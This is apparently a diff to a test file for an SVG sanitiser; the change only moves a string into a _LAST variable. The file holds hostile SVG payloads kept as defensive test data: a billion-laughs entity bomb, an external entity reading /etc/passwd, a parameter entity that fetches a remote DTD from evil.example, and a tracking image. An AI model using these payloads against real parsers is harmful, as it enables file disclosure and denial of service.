@@ -13,6 +13,7 @@ def svg(inner: str, attributes: str = "") -> bytes:
 
 _DECLARED = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>&x;</text></svg>'
 _LAUGHS = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10))
+_LAST = _DECLARED.replace("&x;", "&x9;")
 _USES = [f'<use href="#a{n}"/>' * 10 for n in range(1, 10)]
 _MANY_USES = "".join(f'<g id="a{n}">{uses}</g>' for n, uses in enumerate(_USES))
 
@@ -27,7 +28,7 @@ HOSTILE_SVG: dict[str, tuple[bytes, str]] = {
     "image": (svg('<image href="https://evil.example/track.png"/>'), "<image>"),
     "image as data": (svg('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'), "<image>"),
     "use of data": (svg('<use href="data:image/svg+xml,&lt;svg/&gt;#a"/>'), "data:image"),
-    "entity bomb": (f'<!DOCTYPE svg [<!ENTITY x0 "ha">{_LAUGHS}]>{_DECLARED.replace("&x;", "&x9;")}'.encode(), "<!DOCTYPE"),
+    "entity bomb": (f'<!DOCTYPE svg [<!ENTITY x0 "ha">{_LAUGHS}]>{_LAST}'.encode(), "<!DOCTYPE"),
     "external entity": (f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{_DECLARED}'.encode(), "<!DOCTYPE"),
     "parameter entity": (
         f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>{_DECLARED}'.encode(), "<!DOCTYPE",
